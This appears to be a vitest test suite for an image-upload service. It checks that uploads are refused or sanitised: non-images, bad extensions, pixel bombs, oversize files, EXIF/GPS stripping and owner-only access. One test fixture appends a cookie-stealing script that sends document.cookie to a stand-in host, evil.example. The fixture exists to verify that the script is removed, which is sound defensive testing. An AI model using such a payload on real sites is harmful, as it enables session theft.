import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ownFileUrl } from '../../src/shared/api/uploads';
import { ErrorCode } from '../../src/shared/errors/catalogue';
import { inTransaction } from '../../server/db/after-commit';
import { diskFileStore } from '../../server/modules/uploads/file-store';
import { createImagePool } from '../../server/modules/uploads/image-pool';
import { maxStoredSide } from '../../server/modules/uploads/image-pipeline';
import { createUploadsService } from '../../server/modules/uploads/uploads-service';
import { startTestServer, testBackends, type TestServer } from './harness';
import { newCustomer } from './reviews-support';
import { maxImageBytes } from '../../src/shared/uploads/image-rules';
import { getFile, jpegImage, multipartBody, multipartCall, pixelBombPng, pngImage, storedFileCount } from './uploads-support';

type Customer = Awaited<ReturnType<typeof newCustomer>>;

/** What storeImage refused with: the envelope code and message a route would answer. */
async function refusalOf(promise: Promise<unknown>) {
  try {
    await promise;
  } catch (error) {
    const refused = error as { code?: number; detail?: string; httpStatus?: number };
    return { code: refused.code, detail: refused.detail, httpStatus: refused.httpStatus };
  }
  throw new Error('expected the image to be refused');
}

describe.each(testBackends())('uploads corpus on $name', (backend) => {
  let server: TestServer;
  let owner: Customer;
  let stranger: Customer;

  beforeAll(async () => {
    server = await startTestServer(backend, { CODES_SENT_PER_10_MIN: '500', CODE_CHECKS_PER_10_MIN: '500' });
    [owner, stranger] = await Promise.all([newCustomer(server, 'uploader'), newCustomer(server, 'stranger')]);
  });
  afterAll(async () => {
    await server?.close();
  });

  const store = (bytes: Buffer, filename: string, uid = owner.uid) => server.app.uploads.storeImage(undefined, { uid, purpose: 'depositProof', bytes, filename });

  it('removes the kept bytes when the transaction that stored them rolls back, and keeps them when it commits', async () => {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'uploads-rollback-'));
    const uploads = createUploadsService({ db: server.database.db, store: diskFileStore(folder), pool: createImagePool({ concurrency: 1, queueLimit: 2 }) });
    const proof = { uid: owner.uid, purpose: 'depositProof' as const, bytes: await jpegImage(), filename: 'proof.jpg' };
    let kept = '';
    await expect(
      inTransaction(server.database.db, async (trx) => {
        kept = await uploads.storeImage(trx, proof);
        // Pending until the row commits: no reader serves it, and a crash here leaves what the sweep removes.
        expect(fs.readdirSync(folder)).toEqual([`${kept}.jpg.pending`]);
        // A later step of the same call (the deposit's row, its review item) refuses.
        throw new Error('a later step refused');
      }),
    ).rejects.toThrow('a later step refused');
    expect(fs.readdirSync(folder)).toEqual([]);
    expect(await uploads.anyFile(kept)).toBeNull();

    const committed = await inTransaction(server.database.db, (trx) => uploads.storeImage(trx, proof));
    await uploads.settled();
    expect(fs.readdirSync(folder)).toEqual([`${committed}.jpg`]);
    expect((await uploads.anyFile(committed))?.contentType).toBe('image/jpeg');
    fs.rmSync(folder, { recursive: true, force: true });
  });

  it('refuses a text file renamed .jpg and stores nothing', async () => {
    const before = await storedFileCount(server);
    const refusal = await refusalOf(store(Buffer.from('<html><script>alert(1)</script></html>\n'.repeat(20)), 'receipt.jpg'));
    expect(refusal).toMatchObject({ code: ErrorCode.INCORRECT_PARAMETER_CONTENT, detail: 'image refused: notAnImage' });
    expect(await storedFileCount(server)).toBe(before);
  });

  it('refuses an extension outside .heic .jpg .jpeg .png even for real image bytes', async () => {
    const before = await storedFileCount(server);
    for (const name of ['proof.gif', 'proof.svg', 'proof', 'proof.png.exe']) {
      expect(await refusalOf(store(await pngImage(), name)), name).toMatchObject({ code: ErrorCode.INCORRECT_PARAMETER_CONTENT, detail: 'image refused: illegalExtension' });
    }
    expect(await storedFileCount(server)).toBe(before);
  });

  it('keeps a PNG with a script appended as a clean JPEG without the script bytes', async () => {
    const script = Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>');
    const id = await store(Buffer.concat([await pngImage(200, 150), script]), 'proof.png');
    const file = await getFile(server, ownFileUrl(id), owner.token);
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toBe('image/jpeg');
    expect(file.bytes.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
    expect(file.bytes.includes(Buffer.from('<script>'))).toBe(false);
    const metadata = await sharp(file.bytes).metadata();
    expect({ format: metadata.format, width: metadata.width, height: metadata.height }).toEqual({ format: 'jpeg', width: 200, height: 150 });
  });

  it('strips every metadata field: a JPEG with GPS EXIF comes back with no EXIF, ICC, XMP or comment', async () => {
    const withGps = await jpegImage(640, 480, { exif: { IFD0: { Make: 'PhoneMaker', Model: 'Secret Model' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2400/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 300/100' } } });
    expect((await sharp(withGps).metadata()).exif, 'the fixture carries EXIF').toBeDefined();
    expect(withGps.includes(Buffer.from('Secret Model'))).toBe(true);
    const id = await store(withGps, 'IMG_0001.JPG');
    const file = await getFile(server, ownFileUrl(id), owner.token);
    const metadata = await sharp(file.bytes).metadata();
    expect(metadata.exif).toBeUndefined();
    expect(metadata.icc).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(metadata.iptc).toBeUndefined();
    expect(metadata.comments ?? []).toEqual([]);
    expect(file.bytes.includes(Buffer.from('Secret Model'))).toBe(false);
    expect(file.bytes.includes(Buffer.from('Exif'))).toBe(false);
  });

  it(`scales a large image down to ${maxStoredSide} px on its long side`, async () => {
    const id = await store(await jpegImage(4000, 1000), 'wide.jpeg');
    const metadata = await sharp((await getFile(server, ownFileUrl(id), owner.token)).bytes).metadata();
    expect({ width: metadata.width, height: metadata.height }).toEqual({ width: maxStoredSide, height: 640 });
  });

  it('refuses a pixel bomb (a 20000 × 20000 PNG of a few hundred bytes) without decoding it, and stores nothing', async () => {
    const bomb = await pixelBombPng();
    expect(bomb.length).toBeLessThan(2_000);
    expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({ width: 20_000, height: 20_000 });
    const before = await storedFileCount(server);
    expect(await refusalOf(store(bomb, 'bomb.png'))).toMatchObject({ code: ErrorCode.INCORRECT_PARAMETER_CONTENT, detail: 'image refused: tooManyPixels' });
    expect(await storedFileCount(server)).toBe(before);
  });

  it('answers an image above 10 MB with HTTP 413 and the upload limit message before anything is read into the service, storing nothing', async () => {
    const before = await storedFileCount(server);
    const oversize = Buffer.concat([await pngImage(), Buffer.alloc(maxImageBytes)]);
    const body = multipartBody({ metaData: JSON.stringify({ coinId: 1, amt: '5000', said: '', locale: 'en' }) }, [{ field: 'depositProof', filename: 'big.png', bytes: oversize, type: 'image/png' }]);
    const answer = await multipartCall(server, '/v1/waa/deposit/submit', body, owner.token, 'oversize-0001');
    expect(answer).toMatchObject({ status: 413, code: ErrorCode.INCORRECT_PARAMETER_CONTENT });
    expect(answer.msg).toBe('Image upload limit exceeded (1001)');
    expect(await storedFileCount(server)).toBe(before);
  });

  it("answers a file only to its owner: another user's id is the same 404 as a missing one, no token is 401", async () => {
    const id = await store(await jpegImage(), 'mine.jpg');
    const own = await getFile(server, ownFileUrl(id), owner.token);
    expect(own.status).toBe(200);
    expect(own.headers['cache-control']).toBe('private, no-store');
    expect(own.headers['x-content-type-options']).toBe('nosniff');
    const others = await getFile(server, ownFileUrl(id), stranger.token);
    const missing = await getFile(server, ownFileUrl('AAAAAAAAAAAAAAAAAAAAAA'), stranger.token);
    expect(others.status).toBe(404);
    expect(missing.status).toBe(404);
    expect(others.bytes.toString()).toBe(missing.bytes.toString());
    expect((await getFile(server, ownFileUrl(id))).status).toBe(401);
  });

  it('records each stored file with its owner, purpose and size, under an unguessable id', async () => {
    const id = await store(await jpegImage(), 'row.jpg');
    expect(id).toMatch(/^[A-Za-z0-9_-]{22}$/);
    const row = await server.database.db.selectFrom('stored_file').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    const file = await getFile(server, ownFileUrl(id), owner.token);
    expect({ uid: row.uid, purpose: row.purpose, size: row.size }).toEqual({ uid: owner.uid, purpose: 'depositProof', size: file.bytes.length });
  });
});
